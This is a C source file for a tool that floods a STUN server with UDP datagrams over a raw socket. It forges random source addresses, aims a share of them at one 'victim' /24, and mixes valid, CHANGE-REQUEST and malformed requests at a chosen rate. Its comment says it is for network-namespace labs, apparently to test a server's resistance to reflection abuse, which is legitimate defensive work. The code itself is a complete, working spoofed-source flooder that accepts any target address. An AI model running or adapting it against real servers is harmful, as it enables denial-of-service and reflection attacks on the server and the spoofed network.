/*
 * Floods one STUN server over IPv4 in other people's names, through a raw socket, at a steady rate, and
 * says how many datagrams it sent. For use in network namespaces alone.
 *
 * flood ADDRESS PORT SECONDS RATE SEED
 *
 * Sources are random, but for those of reserved ranges, and now and then many come from one /24. Of ten
 * datagrams six ask plainly, two with CHANGE-REQUEST, one is cut short or has a wrong length, one is noise.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 64, SLOT = 128, HEADERS = sizeof(struct iphdr) + sizeof(struct udphdr) };

static unsigned char slots[BATCH][SLOT];
static struct iovec parts[BATCH];
static struct mmsghdr messages[BATCH];
static struct sockaddr_in server;
static uint64_t state;

static double now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return time.tv_sec + time.tv_nsec / 1e9;
}

/* xorshift64* */
static uint64_t draw(void) {
  state ^= state >> 12;
  state ^= state << 25;
  state ^= state >> 27;
  return state * 0x2545f4914f6cdd1d;
}

static uint32_t draw_source(void) {
  for (;;) {
    uint32_t address = draw() >> 32;
    /* Every eighth is of one network: what a victim would be. */
    if (draw() % 8 == 0) address = 0x2d000000 | (address & 0xff);
    uint32_t first = address >> 24;
    if (first == 0 || first == 10 || first == 127 || first >= 224) continue;
    /* The lab's own: documentation prefixes. */
    if (address >> 8 == 0xc00002 || address >> 8 == 0xc63364 || address >> 8 == 0xcb0071) continue;
    return address;
  }
}

static size_t write_payload(unsigned char *at) {
  static const unsigned char plain[8] = {0x00, 0x01, 0x00, 0x00, 0x21, 0x12, 0xa4, 0x42};
  static const unsigned char change[8] = {0x00, 0x03, 0x00, 0x04, 0x00, 0x00, 0x00, 0x06};
  uint64_t kind = draw() % 10, bits;
  memcpy(at, plain, sizeof plain);
  for (int i = 8; i < 32; i += 8) {
    bits = draw();
    memcpy(at + i, &bits, 8);
  }
  if (kind < 6) return 20;
  if (kind < 8) {
    at[3] = 8;
    memcpy(at + 20, change, sizeof change);
    return 28;
  }
  if (kind == 8) {
    at[3] = (unsigned char)(draw() & 0xfc);
    return 20 + draw() % 12;
  }
  at[0] = 0xff;
  return 1 + draw() % 31;
}

static void write_datagram(int slot, uint16_t port) {
  unsigned char *bytes = slots[slot];
  size_t length = write_payload(bytes + HEADERS);
  struct iphdr *ip = (struct iphdr *)bytes;
  struct udphdr *udp = (struct udphdr *)(bytes + sizeof *ip);
  *ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP};
  ip->tot_len = htons(HEADERS + length);
  ip->saddr = htonl(draw_source());
  ip->daddr = server.sin_addr.s_addr;
  *udp = (struct udphdr){.source = htons(1024 + draw() % 64000), .dest = htons(port + (draw() & 1))};
  udp->len = htons(sizeof *udp + length);
  parts[slot].iov_len = HEADERS + length;
}

int main(int argc, char **argv) {
  if (argc != 6) return 2;
  server = (struct sockaddr_in){.sin_family = AF_INET};
  if (inet_pton(AF_INET, argv[1], &server.sin_addr) != 1) return 2;
  uint16_t port = atoi(argv[2]);
  double seconds = atof(argv[3]), rate = atof(argv[4]);
  state = strtoull(argv[5], NULL, 10) | 1;
  int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (raw < 0) return 1;
  for (int i = 0; i < BATCH; i++) {
    parts[i].iov_base = slots[i];
    messages[i].msg_hdr = (struct msghdr){
        .msg_name = &server, .msg_namelen = sizeof server, .msg_iov = &parts[i], .msg_iovlen = 1};
  }
  uint64_t sent = 0;
  double begin = now(), at = begin;
  for (; at - begin < seconds; at = now()) {
    uint64_t due = (at - begin) * rate;
    if (due < sent + BATCH) {
      nanosleep(&(struct timespec){0, 100000}, NULL);
      continue;
    }
    for (int i = 0; i < BATCH; i++) write_datagram(i, port);
    int done = sendmmsg(raw, messages, BATCH, 0);
    if (done > 0) sent += done;
  }
  printf("{\"sent\":%llu,\"seconds\":%.3f}\n", (unsigned long long)sent, at - begin);
  return 0;
}
